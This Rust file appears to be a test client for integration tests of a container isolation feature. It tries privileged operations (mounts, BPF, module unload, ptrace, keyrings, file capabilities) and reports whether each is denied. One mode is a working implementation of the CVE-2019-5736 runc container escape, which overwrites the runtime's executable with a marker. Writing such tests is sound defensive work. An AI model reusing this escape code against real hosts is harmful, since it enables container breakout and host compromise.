//! The process the integration tests put into a cgroup: it tries one thing
//! against a Unix socket and reports the result by exit code.
//!
//! `eci-test-client stream PATH` connects a stream socket;
//! `eci-test-client dgram PATH` sends one datagram (unconnected `sendto`);
//! `eci-test-client dgram-connect PATH` connects a datagram socket.
//! `eci-test-client open PATH` opens a file read-only.
//! `eci-test-client bind SOURCE TARGET` calls mount(2) with MS_BIND on the
//! paths exactly as given (no canonicalisation: the kernel resolves them).
//! `eci-test-client bind-new-api SOURCE TARGET` bind mounts with the new
//! mount API (`open_tree(OPEN_TREE_CLONE)` then `move_mount`).
//! `eci-test-client bpf-prog -` loads a two-instruction socket filter;
//! `eci-test-client module NAME` asks the kernel to unload module NAME (the
//! capability check comes first: EPERM without `CAP_SYS_MODULE` in the VM,
//! ENOENT — counted as "it worked" — with it);
//! `eci-test-client ptrace PID` attaches to PID (`PTRACE_SEIZE`) and detaches.
//! `eci-test-client key-add NAME` adds a "user" key NAME to the caller's
//! user keyring; `eci-test-client key-find NAME` searches the caller's user
//! keyring for it (found: it worked).
//! `eci-test-client perf -` opens a CPU-wide cycles counter on CPU 0 for all
//! tasks (the whole VM).
//! `eci-test-client runtime-exe SIZE` is the CVE-2019-5736 pattern, run as a
//! container's first process: it replaces /bin/sh with `#!/proc/self/exe`
//! (so a `docker exec` of /bin/sh makes the runtime execute itself inside
//! the container; when /bin/sh is not writable the script goes to
//! /tmp/runtime-exe-sh instead), prints `runtime-exe: ready: exec PATH`,
//! then watches the container's
//! pid namespace for the runtime (a process whose command line is
//! `runc init` or whose executable is SIZE bytes long, the size of the
//! VM's runc), takes an O_PATH handle on its `/proc/<pid>/exe`, re-opens
//! that handle for writing through `/proc/self/fd/<n>` until the open stops
//! failing with ETXTBSY (the runtime has exited) and writes a marker at
//! offset 0. It reports each step on `runtime-exe:` lines and ends with one
//! `runtime-exe: result ...` line (exit 0: the marker was written; 13: a
//! step was refused; 3: no runtime process was seen).
//! It first prints `pid=<pid>` as the VM sees it (from /proc/self, which
//! resolves in the proc mount's pid namespace even inside a new one).
//! Exit 0: it worked. Exit 13: EPERM/EACCES (denied). Exit 1: other error.

use std::{
    os::unix::net::{UnixDatagram, UnixStream},
    process::ExitCode,
};

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().collect();
    let (Some(mode), Some(path)) = (args.get(1), args.get(2)) else {
        eprintln!(
            "usage: eci-test-client stream|dgram|dgram-connect|open PATH | bind|bind-new-api SOURCE TARGET"
        );
        return ExitCode::from(2);
    };
    if let Ok(pid) = std::fs::read_link("/proc/self") {
        println!("pid={}", pid.display());
    }
    // Join a cgroup first, without exec'ing afterwards (a protected task
    // in the VM's user namespace below a protected parent cannot exec).
    if let Some(dir) = std::env::var_os("ECI_TEST_JOIN_CGROUP") {
        let procs = std::path::Path::new(&dir).join("cgroup.procs");
        if let Err(e) = std::fs::write(&procs, "0") {
            eprintln!("joining {}: {e}", procs.display());
            return ExitCode::from(3);
        }
    }
    if mode == "runtime-exe" {
        return runtime_exe::attack(path);
    }
    let result = match mode.as_str() {
        "open" => std::fs::File::open(path).map(|_| ()),
        "open-write" => std::fs::OpenOptions::new()
            .write(true)
            .open(path)
            .map(|_| ()),
        "stream" => UnixStream::connect(path).map(|_| ()),
        "dgram" => UnixDatagram::unbound()
            .and_then(|s| s.send_to(b"eci", path))
            .map(|_| ()),
        "dgram-connect" => UnixDatagram::unbound().and_then(|s| s.connect(path)),
        "bpf-prog" => load_socket_filter(),
        "module" => unload_module(path),
        "ptrace" => seize(path),
        "key-add" => add_key(path),
        "key-find" => find_key(path),
        "perf" => open_cpu_counter(),
        "named" => named(path, args.get(3).map(String::as_str)),
        "file-caps" => set_file_caps(path),
        "bind" | "bind-new-api" => match args.get(3) {
            Some(target) if mode == "bind" => bind(path, target),
            Some(target) => bind_new_api(path, target),
            None => {
                eprintln!("{mode} needs SOURCE and TARGET");
                return ExitCode::from(2);
            }
        },
        other => {
            eprintln!("unknown mode {other}");
            return ExitCode::from(2);
        }
    };
    match result {
        Ok(()) => {
            println!("ok");
            ExitCode::SUCCESS
        }
        Err(err) if matches!(err.raw_os_error(), Some(libc::EPERM) | Some(libc::EACCES)) => {
            println!("denied: {err}");
            ExitCode::from(13)
        }
        Err(err) => {
            println!("error: {err}");
            ExitCode::from(1)
        }
    }
}

/// Gives `path` the file capability CAP_SETUID, permitted and effective
/// (`security.capability`, revision 2, as `setcap cap_setuid+ep` writes it).
fn set_file_caps(path: &str) -> std::io::Result<()> {
    const VFS_CAP_REVISION_2: u32 = 0x0200_0000;
    const VFS_CAP_FLAGS_EFFECTIVE: u32 = 0x1;
    const CAP_SETUID: u32 = 7;
    let mut value = Vec::with_capacity(20);
    value.extend_from_slice(&(VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE).to_le_bytes());
    value.extend_from_slice(&(1u32 << CAP_SETUID).to_le_bytes()); // permitted
    value.extend_from_slice(&0u32.to_le_bytes()); // inheritable
    value.extend_from_slice(&0u32.to_le_bytes()); // permitted, high
    value.extend_from_slice(&0u32.to_le_bytes()); // inheritable, high
    let path = cstring(path)?;
    let name = c"security.capability";
    // SAFETY: valid C strings and a buffer of the length given.
    let r = unsafe {
        libc::setxattr(
            path.as_ptr(),
            name.as_ptr(),
            value.as_ptr().cast(),
            value.len(),
            0,
        )
    };
    if r == 0 {
        Ok(())
    } else {
        Err(std::io::Error::last_os_error())
    }
}

fn cstring(s: &str) -> std::io::Result<std::ffi::CString> {
    std::ffi::CString::new(s).map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidInput, e))
}

/// mount(2) with MS_BIND.
fn bind(source: &str, target: &str) -> std::io::Result<()> {
    let (source, target) = (cstring(source)?, cstring(target)?);
    // SAFETY: NUL-terminated strings that outlive the call; no data.
    let rc = unsafe {
        libc::mount(
            source.as_ptr(),
            target.as_ptr(),
            std::ptr::null(),
            libc::MS_BIND,
            std::ptr::null(),
        )
    };
    if rc != 0 {
        return Err(std::io::Error::last_os_error());
    }
    Ok(())
}

/// `open_tree(source, OPEN_TREE_CLONE)`, then `move_mount` of the detached
/// copy onto `target`.
fn bind_new_api(source: &str, target: &str) -> std::io::Result<()> {
    let (source, target, empty) = (cstring(source)?, cstring(target)?, cstring("")?);
    // SAFETY: plain syscalls on NUL-terminated strings that outlive them.
    unsafe {
        let fd = libc::syscall(
            libc::SYS_open_tree,
            libc::AT_FDCWD,
            source.as_ptr(),
            (libc::OPEN_TREE_CLONE | libc::OPEN_TREE_CLOEXEC) as libc::c_uint,
        );
        if fd < 0 {
            return Err(std::io::Error::last_os_error());
        }
        let moved = libc::syscall(
            libc::SYS_move_mount,
            fd as libc::c_int,
            empty.as_ptr(),
            libc::AT_FDCWD,
            target.as_ptr(),
            libc::MOVE_MOUNT_F_EMPTY_PATH,
        );
        let err = std::io::Error::last_os_error();
        libc::close(fd as libc::c_int);
        if moved < 0 {
            return Err(err);
        }
    }
    Ok(())
}

/// `bpf(BPF_PROG_LOAD)` of `r0 = 0; exit` as a socket filter.
fn load_socket_filter() -> std::io::Result<()> {
    // struct bpf_insn: code u8, dst:4|src:4 u8, off i16, imm i32.
    let insns: [u64; 2] = [
        0xb7, // BPF_ALU64 | BPF_MOV | BPF_K, r0, imm 0
        0x95, // BPF_JMP | BPF_EXIT
    ];
    let license = cstring("GPL")?;
    // union bpf_attr, BPF_PROG_LOAD prefix: prog_type u32, insn_cnt u32,
    // insns u64, license u64, log_level u32, log_size u32, log_buf u64,
    // kern_version u32; the rest zero.
    let mut attr = [0u8; 128];
    attr[0..4].copy_from_slice(&1u32.to_ne_bytes()); // BPF_PROG_TYPE_SOCKET_FILTER
    attr[4..8].copy_from_slice(&2u32.to_ne_bytes());
    attr[8..16].copy_from_slice(&(insns.as_ptr() as u64).to_ne_bytes());
    attr[16..24].copy_from_slice(&(license.as_ptr() as u64).to_ne_bytes());
    // SAFETY: attr is a zeroed bpf_attr whose pointers outlive the call.
    let fd = unsafe {
        libc::syscall(
            libc::SYS_bpf,
            5, // BPF_PROG_LOAD
            attr.as_ptr(),
            attr.len() as u32,
        )
    };
    if fd < 0 {
        return Err(std::io::Error::last_os_error());
    }
    // SAFETY: our own new fd.
    unsafe { libc::close(fd as i32) };
    Ok(())
}

fn unload_module(name: &str) -> std::io::Result<()> {
    let name = cstring(name)?;
    // SAFETY: a NUL-terminated name; O_NONBLOCK.
    let rc = unsafe { libc::syscall(libc::SYS_delete_module, name.as_ptr(), libc::O_NONBLOCK) };
    if rc == 0 {
        return Ok(());
    }
    let err = std::io::Error::last_os_error();
    if err.raw_os_error() == Some(libc::ENOENT) {
        println!("the capability check passed (no such module)");
        return Ok(());
    }
    Err(err)
}

fn seize(pid: &str) -> std::io::Result<()> {
    let pid: libc::pid_t = pid
        .parse()
        .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidInput, e))?;
    let null = std::ptr::null_mut::<libc::c_void>();
    // SAFETY: ptrace on a pid; no memory is passed.
    unsafe {
        if libc::ptrace(libc::PTRACE_SEIZE, pid, null, null) != 0 {
            return Err(std::io::Error::last_os_error());
        }
        libc::ptrace(libc::PTRACE_DETACH, pid, null, null);
    }
    Ok(())
}

const KEY_SPEC_USER_KEYRING: i32 = -4;

fn add_key(name: &str) -> std::io::Result<()> {
    let (kind, desc, value) = (cstring("user")?, cstring(name)?, b"eci-secret");
    // SAFETY: NUL-terminated strings and a payload that outlive the call.
    let rc = unsafe {
        libc::syscall(
            libc::SYS_add_key,
            kind.as_ptr(),
            desc.as_ptr(),
            value.as_ptr(),
            value.len(),
            KEY_SPEC_USER_KEYRING,
        )
    };
    if rc < 0 {
        return Err(std::io::Error::last_os_error());
    }
    Ok(())
}

fn find_key(name: &str) -> std::io::Result<()> {
    let (kind, desc) = (cstring("user")?, cstring(name)?);
    // SAFETY: KEYCTL_SEARCH (10) with NUL-terminated strings; no attach.
    let rc = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            10,
            KEY_SPEC_USER_KEYRING,
            kind.as_ptr(),
            desc.as_ptr(),
            0,
        )
    };
    if rc < 0 {
        return Err(std::io::Error::last_os_error());
    }
    Ok(())
}

/// perf_event_open(cycles, pid -1, cpu 0): every task on CPU 0.
/// Take `name` as this process's name (its `comm`) and sleep `seconds`
/// (default 30): a process that only calls itself `dockerd`.
fn named(name: &str, seconds: Option<&str>) -> std::io::Result<()> {
    let name = std::ffi::CString::new(name).map_err(std::io::Error::other)?;
    // SAFETY: PR_SET_NAME reads a NUL-terminated string of at most 16 bytes.
    if unsafe { libc::prctl(libc::PR_SET_NAME, name.as_ptr(), 0, 0, 0) } != 0 {
        return Err(std::io::Error::last_os_error());
    }
    let seconds = seconds.and_then(|s| s.parse().ok()).unwrap_or(30);
    std::thread::sleep(std::time::Duration::from_secs(seconds));
    Ok(())
}

fn open_cpu_counter() -> std::io::Result<()> {
    // struct perf_event_attr: type u32, size u32, config u64, ...
    let mut attr = [0u8; 128];
    attr[0..4].copy_from_slice(&1u32.to_ne_bytes()); // PERF_TYPE_SOFTWARE
    attr[4..8].copy_from_slice(&128u32.to_ne_bytes());
    attr[8..16].copy_from_slice(&0u64.to_ne_bytes()); // PERF_COUNT_SW_CPU_CLOCK
    // SAFETY: a zeroed perf_event_attr of the size given.
    let fd = unsafe { libc::syscall(libc::SYS_perf_event_open, attr.as_ptr(), -1, 0, -1, 0) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error());
    }
    // SAFETY: our own new fd.
    unsafe { libc::close(fd as i32) };
    Ok(())
}

/// The CVE-2019-5736 pattern: overwrite the runtime's executable from inside
/// the container while the runtime runs there.
mod runtime_exe {
    use std::{
        collections::BTreeMap,
        io::Write as _,
        os::{
            fd::{AsRawFd, FromRawFd, OwnedFd},
            unix::fs::{FileExt, MetadataExt, OpenOptionsExt, PermissionsExt},
        },
        process::ExitCode,
        time::{Duration, Instant},
    };

    const MARKER: &[u8] = b"#!/bin/sh\necho eci-runtime-overwritten\n";
    /// How long to watch for the runtime after `ready`.
    const WATCH: Duration = Duration::from_secs(240);
    /// How long to keep re-opening for writing while the runtime runs.
    const REOPEN: Duration = Duration::from_secs(60);

    fn say(line: &str) {
        println!("runtime-exe: {line}");
        let _ = std::io::stdout().flush();
    }

    /// `EACCES (Permission denied)`.
    fn errno(err: &std::io::Error) -> String {
        let name = match err.raw_os_error() {
            Some(libc::EPERM) => "EPERM",
            Some(libc::EACCES) => "EACCES",
            Some(libc::EROFS) => "EROFS",
            Some(libc::ETXTBSY) => "ETXTBSY",
            Some(libc::ENOENT) => "ENOENT",
            Some(libc::ESRCH) => "ESRCH",
            Some(libc::EINVAL) => "EINVAL",
            Some(libc::EBADF) => "EBADF",
            Some(libc::ELOOP) => "ELOOP",
            Some(n) => return format!("errno {n} ({err})"),
            None => return err.to_string(),
        };
        let text = err.to_string();
        let text = text.split(" (os error").next().unwrap_or(&text).to_owned();
        format!("{name} ({text})")
    }

    fn is_refusal(err: &std::io::Error) -> bool {
        matches!(
            err.raw_os_error(),
            Some(libc::EPERM | libc::EACCES | libc::EROFS | libc::ETXTBSY)
        )
    }

    /// Where the script goes when /bin/sh cannot be replaced: a path the
    /// container's root can write whatever its ids (/tmp is 1777).
    const FALLBACK_SCRIPT: &str = "/tmp/runtime-exe-sh";

    /// The exploit's first step: `path` becomes a script whose interpreter
    /// is the executable of whoever executes it.
    fn plant_script(path: &str) -> std::io::Result<()> {
        let _ = std::fs::remove_file(path);
        std::fs::write(path, "#!/proc/self/exe\n")?;
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755))
    }

    /// `open(path, O_PATH)`.
    fn open_path(path: &str) -> std::io::Result<OwnedFd> {
        let path = super::cstring(path)?;
        // SAFETY: a NUL-terminated path; the new fd is owned below.
        let fd = unsafe { libc::open(path.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
        if fd < 0 {
            return Err(std::io::Error::last_os_error());
        }
        // SAFETY: a fresh fd of our own.
        Ok(unsafe { OwnedFd::from_raw_fd(fd) })
    }

    fn cmdline(pid: &str) -> String {
        std::fs::read(format!("/proc/{pid}/cmdline"))
            .map(|raw| {
                raw.split(|&b| b == 0)
                    .filter(|a| !a.is_empty())
                    .map(|a| String::from_utf8_lossy(a).into_owned())
                    .collect::<Vec<_>>()
                    .join(" ")
            })
            .unwrap_or_default()
    }

    /// `runc init`, `/usr/sbin/runc init`, `/tmp/.../runc-writable init`.
    fn looks_like_runc_init(cmdline: &str) -> bool {
        let mut words = cmdline.split(' ');
        words
            .next()
            .and_then(|w| w.rsplit('/').next())
            .is_some_and(|name| name.starts_with("runc"))
            && words.next() == Some("init")
    }

    /// What the handle points at: the link's text, the inode, whether its
    /// mount is read-only, and its seals (a memfd's).
    fn describe(pid: &str, handle: &OwnedFd) -> String {
        let link = std::fs::read_link(format!("/proc/{pid}/exe"))
            .map(|l| l.display().to_string())
            .unwrap_or_else(|e| format!("unreadable: {}", errno(&e)));
        let by_fd = format!("/proc/self/fd/{}", handle.as_raw_fd());
        let inode = std::fs::metadata(&by_fd)
            .map(|m| {
                format!(
                    "size {} mode {:o} uid {} dev {:#x} ino {}",
                    m.size(),
                    m.mode(),
                    m.uid(),
                    m.dev(),
                    m.ino()
                )
            })
            .unwrap_or_else(|e| format!("stat: {}", errno(&e)));
        let read_only_mount = {
            let mut stat = std::mem::MaybeUninit::<libc::statvfs>::zeroed();
            // SAFETY: fstatvfs on our own fd into a zeroed struct.
            if unsafe { libc::fstatvfs(handle.as_raw_fd(), stat.as_mut_ptr()) } == 0 {
                // SAFETY: filled by the successful call.
                let flags = unsafe { stat.assume_init() }.f_flag;
                if flags & libc::ST_RDONLY != 0 {
                    "yes".to_owned()
                } else {
                    "no".to_owned()
                }
            } else {
                format!("unknown: {}", errno(&std::io::Error::last_os_error()))
            }
        };
        let seals = match std::fs::File::open(&by_fd) {
            // SAFETY: F_GET_SEALS on our own fd; no memory is passed.
            Ok(f) => match unsafe { libc::fcntl(f.as_raw_fd(), libc::F_GET_SEALS) } {
                s if s >= 0 => format!("{s:#x}"),
                _ => format!("none: {}", errno(&std::io::Error::last_os_error())),
            },
            Err(e) => format!("unknown (read-only open: {})", errno(&e)),
        };
        format!("exe \"{link}\", {inode}, read-only mount: {read_only_mount}, seals: {seals}")
    }

    /// The exploit's last step: re-open the handle for writing until the
    /// runtime stops executing it, then write the marker.
    fn overwrite(handle: &OwnedFd) -> (String, Result<(), std::io::Error>) {
        let by_fd = format!("/proc/self/fd/{}", handle.as_raw_fd());
        let deadline = Instant::now() + REOPEN;
        let mut busy = 0u64;
        let opened = loop {
            match std::fs::OpenOptions::new()
                .write(true)
                .custom_flags(libc::O_CLOEXEC)
                .open(&by_fd)
            {
                Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {
                    busy += 1;
                    std::thread::sleep(Duration::from_millis(1));
                }
                other => break other,
            }
        };
        let open_text = match &opened {
            Ok(_) => "ok".to_owned(),
            Err(e) => errno(e),
        };
        say(&format!(
            "open for write: ETXTBSY {busy} times, then {open_text}"
        ));
        let summary = format!("open for write {open_text} after ETXTBSY x{busy}");
        match opened {
            Err(e) => (summary, Err(e)),
            Ok(file) => {
                let written = file.write_all_at(MARKER, 0);
                let write_text = match &written {
                    Ok(()) => "ok".to_owned(),
                    Err(e) => errno(e),
                };
                say(&format!("write of the marker: {write_text}"));
                (format!("write {write_text} ({summary})"), written)
            }
        }
    }

    pub fn attack(runc_size: &str) -> ExitCode {
        let Ok(runc_size) = runc_size.parse::<u64>() else {
            say("result error: SIZE is not a number");
            return ExitCode::from(2);
        };
        let target = match plant_script("/bin/sh") {
            Ok(()) => "/bin/sh",
            Err(e) => {
                say(&format!(
                    "/bin/sh not replaced: {}; the script goes to {FALLBACK_SCRIPT}",
                    errno(&e)
                ));
                if let Err(e) = plant_script(FALLBACK_SCRIPT) {
                    say(&format!(
                        "result error: {FALLBACK_SCRIPT} not written either: {}",
                        errno(&e)
                    ));
                    return ExitCode::from(1);
                }
                FALLBACK_SCRIPT
            }
        };
        say(&format!("{target} is now #!/proc/self/exe"));
        let own = std::fs::read_link("/proc/self")
            .map(|p| p.display().to_string())
            .unwrap_or_default();
        say(&format!("ready: exec {target}"));
        // pid -> (command line, O_PATH result) of every process seen.
        let mut seen: BTreeMap<String, (String, String)> = BTreeMap::new();
        let mut saw_runtime: Option<String> = None;
        // The last refusal of an O_PATH handle on a runtime process.
        let mut runtime_refusal: Option<String> = None;
        let deadline = Instant::now() + WATCH;
        while Instant::now() < deadline {
            let Ok(entries) = std::fs::read_dir("/proc") else {
                say("result error: /proc is unreadable");
                return ExitCode::from(1);
            };
            for entry in entries.flatten() {
                let pid = entry.file_name().to_string_lossy().into_owned();
                if pid == own || !pid.bytes().all(|b| b.is_ascii_digit()) {
                    continue;
                }
                let line = cmdline(&pid);
                let handle = open_path(&format!("/proc/{pid}/exe"));
                let size = handle.as_ref().ok().and_then(|h| {
                    std::fs::metadata(format!("/proc/self/fd/{}", h.as_raw_fd()))
                        .ok()
                        .map(|m| m.size())
                });
                let is_runtime = looks_like_runc_init(&line) || size == Some(runc_size);
                let handle_text = match &handle {
                    Ok(_) => format!("O_PATH ok, size {}", size.unwrap_or(0)),
                    Err(e) => format!("O_PATH {}", errno(e)),
                };
                let known = seen.get(&pid);
                if known.is_none_or(|(l, h)| *l != line || *h != handle_text) {
                    say(&format!(
                        "seen pid {pid} cmdline \"{line}\" exe: {handle_text}{}",
                        if is_runtime { " (the runtime)" } else { "" }
                    ));
                    seen.insert(pid.clone(), (line.clone(), handle_text.clone()));
                }
                if !is_runtime {
                    continue;
                }
                if saw_runtime.is_none() {
                    saw_runtime = Some(format!("pid {pid} \"{line}\""));
                }
                // A handle on the runtime's executable (runc init itself is
                // not dumpable; the runtime re-executed through the script
                // is).
                let handle = match handle {
                    Ok(handle) => handle,
                    Err(e) => {
                        runtime_refusal = Some(format!(
                            "O_PATH on /proc/{pid}/exe of \"{line}\": {}",
                            errno(&e)
                        ));
                        continue;
                    }
                };
                if size != Some(runc_size) {
                    continue;
                }
                let what = describe(&pid, &handle);
                say(&format!("handle on pid {pid}: {what}"));
                let (summary, written) = overwrite(&handle);
                let runtime = saw_runtime.as_deref().unwrap_or("");
                return match written {
                    Ok(()) => {
                        say(&format!(
                            "result written: {summary}; runtime {runtime}; handle on its {what}"
                        ));
                        ExitCode::SUCCESS
                    }
                    Err(e) => {
                        say(&format!(
                            "result blocked: {summary}; runtime {runtime}; handle on its {what}"
                        ));
                        ExitCode::from(if is_refusal(&e) { 13 } else { 1 })
                    }
                };
            }
            std::thread::sleep(Duration::from_millis(1));
        }
        match saw_runtime {
            Some(runtime) => {
                let why = runtime_refusal.unwrap_or_else(|| {
                    "its executable was never open to O_PATH while it ran".to_owned()
                });
                say(&format!(
                    "result blocked: no handle on the runtime's exe ({why}); runtime {runtime}"
                ));
                ExitCode::from(13)
            }
            None => {
                say(&format!(
                    "result none-seen: no runtime process in {}s ({} other processes seen)",
                    WATCH.as_secs(),
                    seen.len()
                ));
                ExitCode::from(3)
            }
        }
    }
}
